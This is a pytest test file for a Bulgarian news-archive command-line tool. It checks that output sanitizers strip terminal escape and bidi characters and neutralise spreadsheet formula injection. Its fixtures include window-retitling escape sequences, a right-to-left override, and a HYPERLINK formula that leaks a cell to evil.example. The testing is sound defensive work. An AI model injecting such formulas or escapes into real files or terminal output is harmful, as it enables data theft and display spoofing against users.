"""Scraped text that attacks a terminal or a spreadsheet (issue 10, row 11): table, show
and CSV to a terminal print no control or bidi character; CSV cells a spreadsheet would run
get OWASP's leading quote unless --raw; JSON stays as archived."""

from __future__ import annotations

import csv
import io
import json
import os
import pty
import sqlite3
import subprocess
import sys
import tty
import unicodedata
from collections.abc import Callable
from contextlib import closing
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from newsarchive.check_site import ArticleCheck, FieldCheck, SiteCheck, format_text
from newsarchive.mirror import MirrorServer
from newsarchive.safe_text import (
    csv_row,
    for_archive,
    for_spreadsheet,
    for_terminal,
    json_escape,
    one_line,
)

from .search_corpus import build
from .support import Result

Cli = Callable[..., Result]

OSC_TITLE = "\x1b]0;pwned\x07"  # retitles the terminal window
CLEAR = "\x1b[2J"
C1_CSI = "\x9b31m"  # one-character CSI
NEL = "\x85"
RLO = "\u202e"  # right-to-left override
ISOLATES = "\u2066\u2067\u2068\u2069"
HOSTILE = [OSC_TITLE, CLEAR, C1_CSI, NEL, RLO, ISOLATES, "\u202a\u202b\u202c\u202d", "\r"]
UNSAFE = ["\x1b", "\x07", "\x9b", "\x85", "\r", *"\u202a\u202b\u202c\u202d\u202e", *ISOLATES]
EVIL_TITLE = f"-Общината {RLO}abc{OSC_TITLE}"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Кликнете")'


def test_for_terminal_removes_controls_c1_and_bidi_but_keeps_text() -> None:
    for attack in HOSTILE:
        cleaned = for_terminal(f"Община{attack}Русе")
        assert not any(ch in cleaned for ch in UNSAFE), repr(cleaned)
        assert cleaned.startswith("Община") and cleaned.endswith("Русе")
    assert (
        for_terminal("ред 1\nред 2\tтаб · „кавички“ — € ñ 🙂")
        == "ред 1\nред 2\tтаб · „кавички“ — € ñ 🙂"
    )
    assert for_terminal(None) == "" and for_terminal(42) == "42"


def stored_as_given(run_cli: Cli, db: Path, records: list[dict[str, object]]) -> None:
    """``records`` archived with their fields as given, controls and all, as an archive
    an older release wrote holds them (its writers stored a page's or a record's escape
    sequences as they came: ``safe_text.for_archive`` now takes them out on the way in),
    or one edited by hand: what is read out of it must still be safe."""
    build(run_cli, db, records)
    with closing(sqlite3.connect(db)) as conn, conn:
        for record in records:
            tags = json.dumps(record.get("tags", []), ensure_ascii=False)
            conn.execute(
                "UPDATE articles SET title = ?, author = ?, tags = ?, text = ? WHERE url = ?",
                (record["title"], record.get("author"), tags, record["text"], record["url"]),
            )


@pytest.mark.parametrize(
    ("printed", "shown"),
    [
        ("\x1b[31mчервено\x1b[0m", "червено"),
        ("a \x1b]0;hacked\x07 b", "a  b"),
        ("a\x1b]8;;http://x.bg/\x1b\\връзка\x1b]8;;\x1b\\b", "aвръзкаb"),  # a link
        ("\x9b31mX\x9d0;t\x9cY", "XY"),  # C1's CSI and OSC, ST
        ("a\x1b(Bb\x1bcc", "abc"),
        ("край\x1b[", "край"),
        ("\x1b]2;без край\nредът след", "\nредът след"),  # (up to the line's end)
    ],
)
def test_an_escape_sequence_is_removed_whole(printed: str, shown: str) -> None:
    """Only ESC was removed: "\x1b[31mчервено\x1b[0m" printed "[31mчервено[0m", and
    "\x1b]0;hacked\x07" "]0;hacked", in search's list and in show."""
    assert for_terminal(printed) == shown


def test_search_and_show_print_no_fragment_of_an_escape(run_cli: Cli, db: Path) -> None:
    stored_as_given(run_cli, db, [
        {"site": "bta", "url": "https://www.bta.bg/esc", "published": "2024-01-01",
         "title": "Кметът \x1b[31mчервено\x1b[0m", "author": "\x1b]0;hacked\x07Иван",
         "text": "Общината \x1b]0;hacked\x07 реши \x1b[1mважно\x1b[0m."},
    ])  # fmt: skip
    for args in (("search", "общината"), ("show", "1")):
        printed = run_cli(*args, "--db", str(db)).stdout
        assert "Кметът червено" in printed and "важно" in printed, args
        for fragment in ("[31m", "[0m", "]0;", "hacked", "[1m"):
            assert fragment not in printed, (args, fragment)
    # JSON is data: the title as archived; its snippet, made of the text, has none
    (hit,) = run_cli("search", "общината", "-f", "json", "--db", str(db)).json()  # type: ignore[misc]
    assert hit["title"] == "Кметът \x1b[31mчервено\x1b[0m"
    assert hit["snippet"] == "**Общината** реши важно."


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\x00"])
def test_cells_a_spreadsheet_would_run_get_a_quote(start: str) -> None:
    assert for_spreadsheet(f"{start}1+1") == f"'{start}1+1"


def test_other_cells_and_numbers_are_left_alone() -> None:
    for value in ("Общината", "'=x", " =x", "", "2024-01-01", "https://x.bg/=1"):
        assert for_spreadsheet(value) == value
    assert for_spreadsheet(-3.5) == -3.5 and for_spreadsheet(None) is None
    row = {"title": "=1+1", "score": -2.0, "snippet": f"{CLEAR}-x"}
    assert csv_row(row, terminal=False) == {"title": "'=1+1", "score": -2.0,
                                            "snippet": f"{CLEAR}-x"}  # fmt: skip
    assert csv_row(row, terminal=True) == {"title": "'=1+1", "score": -2.0, "snippet": "'-x"}
    assert csv_row(row, terminal=False, raw=True) == row
    assert csv_row(row, terminal=True, raw=True)["snippet"] == "-x"


def hostile_archive(run_cli: Cli, db: Path) -> None:
    stored_as_given(run_cli, db, [
        {"site": "bta", "url": "https://www.bta.bg/evil-1", "title": FORMULA,
         "published": "2024-01-01", "author": "@автор",
         "text": f"Общината{OSC_TITLE} реши{CLEAR}. Бюджет{C1_CSI} {RLO}txt.exe{NEL}."},
        {"site": "bta", "url": "https://www.bta.bg/evil-2", "title": EVIL_TITLE,
         "published": "2024-01-02", "tags": ["+таг", "друг"],
         "text": "Общината прие бюджета."},
    ])  # fmt: skip


def csv_cells(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_search_csv_to_a_pipe_quotes_formulas_and_raw_opts_out(run_cli: Cli, db: Path) -> None:
    hostile_archive(run_cli, db)
    result = run_cli("search", "община", "--format", "csv", "--sort", "oldest", "--db", str(db))
    assert result.exit_code == 0, result.stderr
    rows = csv_cells(result.stdout)
    assert [r["title"] for r in rows] == ["'" + FORMULA, f"'-Общината {RLO}abc{OSC_TITLE}"]
    assert float(rows[0]["score"]) != 0  # numbers are left as they are
    raw = run_cli("search", "община", "-f", "csv", "--sort", "oldest", "--raw", "--db", str(db))
    assert [r["title"] for r in csv_cells(raw.stdout)] == [
        FORMULA,
        f"-Общината {RLO}abc{OSC_TITLE}",
    ]
    counts = run_cli("search", "община", "-f", "csv", "--count", "--db", str(db))
    assert counts.exit_code == 0 and "bta,2024,2" in counts.stdout


def test_export_csv_quotes_formulas_in_every_column(run_cli: Cli, db: Path, tmp_path: Path) -> None:
    hostile_archive(run_cli, db)
    out = tmp_path / "out.csv"
    assert run_cli("export", "-f", "csv", "--out", str(out), "--db", str(db)).exit_code == 0
    rows = csv_cells(out.read_text(encoding="utf-8"))
    assert [(r["title"], r["author"], r["tags"]) for r in rows] == [
        ("'" + FORMULA, "'@автор", "[]"),
        # (tags are a JSON array, which no spreadsheet reads as a formula: "[" opens it)
        (f"'-Общината {RLO}abc{OSC_TITLE}", "", '["+таг", "друг"]'),
    ]
    assert OSC_TITLE in rows[0]["text"]  # a file keeps the text as archived
    assert (
        run_cli("export", "-f", "csv", "--raw", "--out", str(out), "--db", str(db)).exit_code == 0
    )
    rows = csv_cells(out.read_text(encoding="utf-8"))
    assert [(r["title"], r["author"]) for r in rows] == [
        (FORMULA, "@автор"),
        (f"-Общината {RLO}abc{OSC_TITLE}", ""),
    ]
    jsonl = run_cli("export", "--db", str(db)).stdout.split("\n")  # not splitlines: NEL
    assert json.loads(jsonl[0])["title"] == FORMULA  # JSON is data: as archived
    assert json.loads(jsonl[0])["text"].count("\x1b") == 2


def test_export_csv_file_for_a_spreadsheet_starts_with_a_bom(
    run_cli: Cli, db: Path, tmp_path: Path
) -> None:
    # Excel takes a CSV without a byte-order mark for the system's code page (cp1251 on a
    # Bulgarian Windows): every Cyrillic cell garbled. --raw is for scripts: no mark.
    hostile_archive(run_cli, db)
    out = tmp_path / "out.csv"
    assert run_cli("export", "-f", "csv", "--out", str(out), "--db", str(db)).exit_code == 0
    assert out.read_bytes().startswith(b"\xef\xbb\xbfid,site,")
    rows = csv_cells(out.read_text(encoding="utf-8-sig"))
    assert rows[1]["text"] == "Общината прие бюджета."
    assert run_cli("export", "-f", "csv", "--raw", "-o", str(out), "--db", str(db)).exit_code == 0
    assert out.read_bytes().startswith(b"id,site,")
    lines = out.with_suffix(".jsonl")  # (an out.csv is written as CSV without -f)
    assert run_cli("export", "-o", str(lines), "--db", str(db)).exit_code == 0
    assert lines.read_bytes().startswith(b"{")
    piped = run_cli("export", "-f", "csv", "--db", str(db))  # stdout: a pipe, a script
    assert piped.stdout.startswith("id,site,")


def test_table_and_show_print_no_control_or_bidi_character(run_cli: Cli, db: Path) -> None:
    hostile_archive(run_cli, db)
    table = run_cli("search", "община", "--db", str(db))
    show = run_cli("show", "1", "--db", str(db))
    for result in (table, show):
        assert result.exit_code == 0, result.stderr
        assert not [ch for ch in UNSAFE if ch in result.stdout]
    assert "txt.exe" in show.stdout and "Бюджет " in show.stdout  # (C1's CSI whole)


def test_check_site_text_prints_no_control_or_bidi_character() -> None:
    article = ArticleCheck("https://x.bg/a-1", 200)
    article.fields["title"] = FieldCheck(
        f"Заглавие{OSC_TITLE}{RLO}{C1_CSI}", "h1", "profile", False
    )
    report = SiteCheck("x", articles=[article])
    text = format_text(report)
    assert "Заглавие\n" in text and "pwned" not in text and "31m" not in text  # (whole)
    assert not [ch for ch in UNSAFE if ch in text]


def on_a_terminal(*args: str) -> str:
    """Run the CLI with stdout on a pseudo-terminal; what the terminal received."""
    main, child = pty.openpty()
    tty.setraw(child)  # bytes as written: no \n -> \r\n translation
    env = {**os.environ, "COLUMNS": "200", "NO_COLOR": "1"}
    env.pop("NEWSARCHIVE_DB", None)
    code = "from newsarchive.cli import main; main()"
    proc = subprocess.run([sys.executable, "-c", code, *args], stdout=child,
                          stderr=subprocess.PIPE, env=env, timeout=60, check=False)  # fmt: skip
    os.close(child)
    received = b""
    try:
        while chunk := os.read(main, 65536):
            received += chunk
    except OSError:  # EIO: the terminal has nothing more
        pass
    os.close(main)
    assert proc.returncode == 0, proc.stderr
    return received.decode("utf-8").replace("\r\n", "\n")  # csv ends rows with \r\n


def test_csv_to_a_terminal_is_as_safe_as_the_table(run_cli: Cli, db: Path) -> None:
    hostile_archive(run_cli, db)
    for args in (("search", "община", "-f", "csv"), ("search", "община", "-f", "csv", "--raw"),
                 ("export", "-f", "csv"), ("export", "-f", "csv", "--raw")):  # fmt: skip
        shown = on_a_terminal(*args, "--db", str(db))
        assert "evil-1" in shown and "evil-2" in shown
        assert not [ch for ch in UNSAFE if ch in shown], args
        titles = {row["title"] for row in csv_cells(shown)}
        expected = FORMULA if "--raw" in args else "'" + FORMULA
        assert expected in titles, titles


@given(st.text(alphabet=st.characters(codec=None, max_codepoint=0x206F)))
def test_no_text_gets_a_control_to_a_terminal_or_a_formula_to_a_sheet(text: str) -> None:
    cleaned = for_terminal(text)
    assert not [ch for ch in cleaned if ch in UNSAFE or (ord(ch) < 32 and ch not in "\t\n")]
    cell = for_spreadsheet(text)
    assert isinstance(cell, str) and not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\x00"))
    assert cell.removeprefix("'") == text or cell == text


def test_json_keeps_the_data_but_spells_c1_and_bidi_as_escapes(run_cli: Cli, db: Path) -> None:
    hostile_archive(run_cli, db)
    outputs = {
        "search": run_cli("search", "община", "-f", "json", "--sort", "oldest", "--db", str(db)),
        "show": run_cli("show", "1", "-f", "json", "--db", str(db)),
        "export": run_cli("export", "--db", str(db)),
    }
    for result in outputs.values():
        assert result.exit_code == 0, result.stderr
        assert not [ch for ch in ("\x85", "\x9b", *"\u202a\u202b\u202c\u202d\u202e") if ch in
                    result.stdout]  # fmt: skip
    assert "\\u202e" in outputs["show"].stdout and "\\u009b" in outputs["show"].stdout
    hits = outputs["search"].json()
    assert isinstance(hits, list) and [h["title"] for h in hits] == [FORMULA, EVIL_TITLE]
    article = outputs["show"].json()
    assert isinstance(article, dict)
    assert article["text"] == f"Общината{OSC_TITLE} реши{CLEAR}. Бюджет{C1_CSI} {RLO}txt.exe{NEL}."
    rows = [json.loads(line) for line in outputs["export"].stdout.splitlines()]  # no raw NEL now
    assert [r["title"] for r in rows] == [FORMULA, EVIL_TITLE]


@given(st.text())
def test_json_escape_is_lossless(text: str) -> None:
    dumped = json.dumps({"k": text, text: [text]}, ensure_ascii=False)
    assert json.loads(json_escape(dumped)) == {"k": text, text: [text]}


def _with_site(run_cli: Cli, db: Path, site: str) -> None:
    """One article under a site id no writer of ours stores (import refuses it), as an
    archive edited by hand or by another tool may hold it: output must still be safe."""
    build(run_cli, db, [{"site": "x", "url": "https://x.bg/1", "title": "t",
                         "published": "2024-01-01", "text": "Общината"}])  # fmt: skip
    with sqlite3.connect(db) as conn:
        conn.execute("UPDATE articles SET site = ?", (site,))


def test_stats_prints_an_imported_site_id_without_controls(run_cli: Cli, db: Path) -> None:
    _with_site(run_cli, db, f"x{OSC_TITLE}{RLO}")
    result = run_cli("stats", "--db", str(db))
    # (the site's id alone, its escape gone whole: a table's cell, or a line when narrow)
    assert result.exit_code == 0 and "x" in result.stdout.split() and "pwned" not in result.stdout
    assert not [ch for ch in UNSAFE if ch in result.stdout]


def test_stats_stories_and_timeline_write_an_imported_site_id_safely(
    run_cli: Cli, db: Path
) -> None:
    """JSON spells C1/bidi as escapes and CSV quotes a formula, as search and export do."""
    site = f"={RLO}x"
    _with_site(run_cli, db, site)
    for mode in ("--stories", "--timeline"):
        as_json = run_cli("stats", mode, "-f", "json", "--db", str(db))
        assert as_json.exit_code == 0, as_json.stderr
        assert RLO not in as_json.stdout and "\\u202e" in as_json.stdout
        assert site in json.dumps(as_json.json(), ensure_ascii=False)
        as_csv = run_cli("stats", mode, "-f", "csv", "--db", str(db))
        assert as_csv.exit_code == 0, as_csv.stderr
        assert "'" + site in {row["site"] for row in csv_cells(as_csv.stdout)}


@given(st.text(), st.integers(min_value=3, max_value=200), st.sampled_from(["…", "..."]))
def test_one_line_is_one_line_within_its_width_and_cuts_only_what_is_too_long(
    text: str, width: int, ellipsis: str
) -> None:
    shown = one_line(text, width, ellipsis=ellipsis)
    flat = " ".join(text.split())
    assert shown.split() == shown.split(" ") or not shown  # no newline, no double space
    assert len(shown) <= width
    if len(flat) <= width:
        assert shown == flat
    else:
        assert shown == flat[: width - len(ellipsis)] + ellipsis


def test_one_line_examples() -> None:
    assert one_line("HTTP/1.1 garbage\r\n\x00  here", 120) == "HTTP/1.1 garbage \x00 here"
    assert one_line("x" * 130, 120, ellipsis="...") == "x" * 117 + "..."
    assert one_line("Заглавие на статията", 10) == "Заглавие …"


def test_json_lines_hold_one_record_a_line_for_any_line_reader(run_cli: Cli, db: Path) -> None:
    """U+2028 and U+2029 were written raw: Python's str.splitlines (and other Unicode
    line readers) cut such a JSON Lines record in two, neither of them JSON."""
    text = "Общината реши.\u2028Бюджетът е приет.\u2029Край."
    build(run_cli, db, [{"site": "bta", "url": "https://www.bta.bg/ls", "title": "Ред\u2028ред",
                         "published": "2024-01-01", "text": text}])  # fmt: skip
    for args in (("export",), ("export", "--out", str(db.with_name("out.jsonl")))):
        result = run_cli(*args, "--db", str(db))
        assert result.exit_code == 0, result.stderr
        written = result.stdout if len(args) == 1 else db.with_name("out.jsonl").read_text()
        assert "\u2028" not in written and "\u2029" not in written
        rows = [json.loads(line) for line in written.splitlines()]
        assert [(r["title"], r["text"]) for r in rows] == [("Ред\u2028ред", text)]
    shown = run_cli("show", "1", "-f", "json", "--db", str(db))
    assert "\\u2028" in shown.stdout and shown.json()["text"] == text


def test_a_title_holding_line_breaks_is_one_line_in_search_and_show(run_cli: Cli, db: Path) -> None:
    """An imported title with a newline, CR or tab broke the search list's block and
    show's header into lines that read as other fields (a second title, a byline). (The
    CR is an older release's: ``for_archive`` now stores a newline.)"""
    stored_as_given(run_cli, db, [{"site": "bta", "url": "https://www.bta.bg/nl",
                                   "published": "2024-01-01", "title": "Ред\nнов ред\r\nи\tтаб",
                                   "author": "Мария\nПетрова", "tags": ["таг\nдруг"],
                                   "text": "Общината прие бюджета."}])  # fmt: skip
    listed = run_cli("search", "общината", "--db", str(db))
    assert listed.exit_code == 0, listed.stderr
    assert listed.stdout.splitlines()[0] == "1  bta  2024-01-01  Ред нов ред и таб"
    shown = run_cli("show", "1", "--db", str(db))
    assert shown.stdout.splitlines()[:4] == [
        "Ред нов ред и таб",
        "bta · 2024-01-01 · Мария Петрова",
        "https://www.bta.bg/nl",
        "Tags: таг друг",
    ]
    as_json = run_cli("show", "1", "-f", "json", "--db", str(db)).json()
    assert as_json["title"] == "Ред\nнов ред\r\nи\tтаб"  # the data as archived


@pytest.mark.parametrize(
    ("args", "chosen"),
    [
        (("search", "община", "--raw"), "table"),
        (("search", "община", "-f", "json", "--raw"), "json"),
        (("export", "--raw"), "jsonl"),
        (("export", "-f", "parquet", "-o", "x.parquet", "--raw"), "parquet"),
    ],
)
def test_raw_with_a_format_it_does_not_change_is_refused(
    run_cli: Cli, db: Path, args: tuple[str, ...], chosen: str
) -> None:
    """``--raw`` changes CSV alone: with another format it was taken and did nothing."""
    hostile_archive(run_cli, db)
    result = run_cli(*args, "--db", str(db))
    assert result.exit_code == 2, result.stdout
    assert result.stderr == (
        f"newsarchive: error: --raw changes CSV only; {chosen} holds the text as archived"
        " already: drop --raw\n"
    )


@pytest.mark.parametrize(
    ("given", "stored"),
    [
        ("\x1b[31mчервено\x1b[0m", "червено"),
        ("\x1b]0;hacked\x07Иван", "Иван"),
        ("a\x1b]8;;http://x.bg/\x1b\\връзка\x1b]8;;\x1b\\b", "aвръзкаb"),  # a link
        ("ред 1\r\nред 2\rред 3\x0cред 4", "ред 1\nред 2\nред 3\nред 4"),
        ("ред 1\nред 2\tтаб", "ред 1\nред 2\tтаб"),  # (tab and newline stay)
        ("поле\x1fполе", "поле поле"),
        ("NUL\x00, BEL\x07, DEL\x7f, ESC\x1b", "NUL, BEL, DEL, ESC"),
        # C1: the Windows-1252 bytes a Latin-1 reading made ("–", "…"), never a CSI
        # taking the rest of the line; the five bytes Windows-1252 leaves unassigned go
        ("2020\x962021, още\x85 \x9b31m", "2020–2021, още… ›31m"),
        ("a\x81\x8d\x8f\x90\x9db", "ab"),
        ("Общината „прие“ € 🙂 \u202eбюджета", "Общината „прие“ € 🙂 \u202eбюджета"),
    ],
)
def test_what_the_archive_stores_holds_no_control(given: str, stored: str) -> None:
    assert for_archive(given) == stored


@given(st.text(alphabet=st.characters(codec=None, max_codepoint=0x206F)))
def test_no_text_takes_a_control_into_the_archive(text: str) -> None:
    stored = for_archive(text)
    assert not [ch for ch in stored if unicodedata.category(ch) == "Cc" and ch not in "\t\n"]
    assert for_archive(stored) == stored


RED = "Общината обяви \x1b[31mчервено\x1b[0m предупреждение за \x1b]0;hacked\x07бурята."


def _stored(db: Path) -> list[tuple[str, str, str, str]]:
    with closing(sqlite3.connect(db)) as conn:
        return conn.execute("SELECT title, author, tags, text FROM articles ORDER BY id").fetchall()


def _found(run_cli: Cli, db: Path, query: str) -> list[str]:
    result = run_cli("search", query, "-f", "json", "--db", str(db))
    assert result.exit_code == 0, result.stderr
    return [hit["url"] for hit in result.json()]  # type: ignore[union-attr]


def test_an_imported_escape_sequence_is_not_archived(run_cli: Cli, db: Path) -> None:
    """import-jsonl stored "\\x1b[31mчервено\\x1b[0m" as it came: the index held the token
    "31mчервено", and ``search червено`` found nothing; every reader of the archive (an
    export, Datasette) met the sequence again."""
    build(run_cli, db, [
        {"site": "bta", "url": "https://www.bta.bg/red", "published": "2024-01-01",
         "title": "\x1b[1mБуря\x1b[0m", "author": "\x1b]0;x\x07Иван Петров",
         "tags": ["\x1b[32mвреме\x1b[0m"], "text": f"{RED}\r\nВторо изречение."},
    ])  # fmt: skip
    assert _stored(db) == [
        ("Буря", "Иван Петров", '["време"]',
         "Общината обяви червено предупреждение за бурята.\nВторо изречение."),
    ]  # fmt: skip
    assert _found(run_cli, db, "червено") == ["https://www.bta.bg/red"]
    assert _found(run_cli, db, "title:буря") == ["https://www.bta.bg/red"]
    exported = run_cli("export", "--db", str(db))
    assert "\\u001b" not in exported.stdout and "31m" not in exported.stdout


def test_a_crawled_page_escape_sequence_is_not_archived(
    run_cli: Cli, db: Path, tmp_path: Path
) -> None:
    """A page's text holding an escape sequence, raw or as a character reference
    (``&#27;``), was archived as the page had it: found by no search of its word."""
    root = tmp_path / "site"
    (root / "novini" / "1").mkdir(parents=True)
    (root / "rss.xml").write_text(
        '<?xml version="1.0"?><rss version="2.0"><channel><title>Река</title><item>'
        "<title>Буря</title><link>https://reka.bg/novini/1/</link>"
        "<pubDate>02 Nov 2026 09:00:00 +0200</pubDate></item></channel></rss>",
        encoding="utf-8",
    )
    text = (
        "Общината обяви &#27;[31mчервено&#27;[0m предупреждение за бурята, която ще засегне"
        " района през следващите два дни. \x1b[1mЖителите\x1b[0m са призовани да останат"
        " по домовете си и да следят съобщенията на кметството."
    )
    (root / "novini" / "1" / "index.html").write_text(
        '<!doctype html><html lang="bg"><head><meta charset="utf-8"><title>Буря</title></head>'
        "<body><article><h1>\x1b[1mБуря\x1b[0m над района</h1><p class='date'>02.11.2026</p>"
        f"<p>{text}</p></article></body></html>",
        encoding="utf-8",
    )
    profile = tmp_path / "reka.toml"
    profile.write_text(
        'id = "reka"\nname = "Община Река"\norigin = "https://reka.bg"\n[discovery]\n'
        'feeds = ["/rss.xml"]\narticle_pattern = "^/novini/\\\\d+/"\n',
        encoding="utf-8",
    )
    with MirrorServer(root) as server:
        crawled = run_cli(
            "crawl", "reka", "--profile", str(profile), "--base-url", server.url,
            "--delay", "0", "--db", str(db),
        )  # fmt: skip
    assert crawled.exit_code == 0, crawled.stderr
    ((title, _, _, stored),) = _stored(db)
    assert title == "Буря над района"
    assert "\x1b" not in stored and "31m" not in stored and "Общината обяви червено" in stored
    assert _found(run_cli, db, "червено") == ["https://reka.bg/novini/1/"]
    assert _found(run_cli, db, "жителите") == ["https://reka.bg/novini/1/"]
